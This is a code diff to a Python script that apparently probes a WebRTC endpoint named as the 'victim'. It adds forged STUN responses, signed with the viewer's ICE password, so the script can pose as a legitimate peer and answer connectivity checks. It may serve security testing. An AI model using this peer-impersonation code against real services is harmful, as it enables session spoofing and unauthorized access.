@@ -79,13 +79,27 @@ class Stranger:
             pass
 
     def answers(self):
-        count = 0
+        return len(self.received())
+
+    def received(self):
+        datagrams = []
         while True:
             try:
-                if self.socket.recvfrom(4_096)[1] == self.to:
-                    count += 1
+                datagram, source = self.socket.recvfrom(4_096)
+                if source == self.to:
+                    datagrams.append(datagram)
             except (BlockingIOError, ConnectionError):
-                return count
+                return datagrams
+
+    def prove(self, password):
+        """Answers the checks of this address, as the viewer with this password."""
+        for datagram in self.received():
+            check = stun.parse_message(datagram)
+            if check.message_class == stun.Class.REQUEST:
+                answer = stun.Message(check.message_method, stun.Class.RESPONSE, check.transaction_id)
+                answer.attributes["XOR-MAPPED-ADDRESS"] = self.to
+                answer.add_message_integrity(password.encode())
+                self.send(bytes(answer))
 
 
 def request(username, password, more=None):
@@ -191,6 +205,9 @@ async def main(endpoint, port, victim):
     good = request(username, password)
     checker = Stranger(port)
     checker.send(good)
+    await asyncio.sleep(0.05)
+    checker.prove(line(offer, "ice-pwd"))
+    checker.send(good)
     await in_turns(EACH, lambda _: checker.send(resigned(good, password)))
     await asyncio.sleep(0.2)
     told["checks_answered"] = checker.answers()
@@ -227,6 +244,8 @@ async def main(endpoint, port, victim):
             continue
         client = Stranger(port)
         client.send(request(f"{line(words, 'ice-ufrag')}:{line(offer, 'ice-ufrag')}", line(words, "ice-pwd")))
+        await asyncio.sleep(0.05)
+        client.prove(line(offer, "ice-pwd"))
         await asyncio.sleep(0.05)
         client.answers()
         client.send(hello)
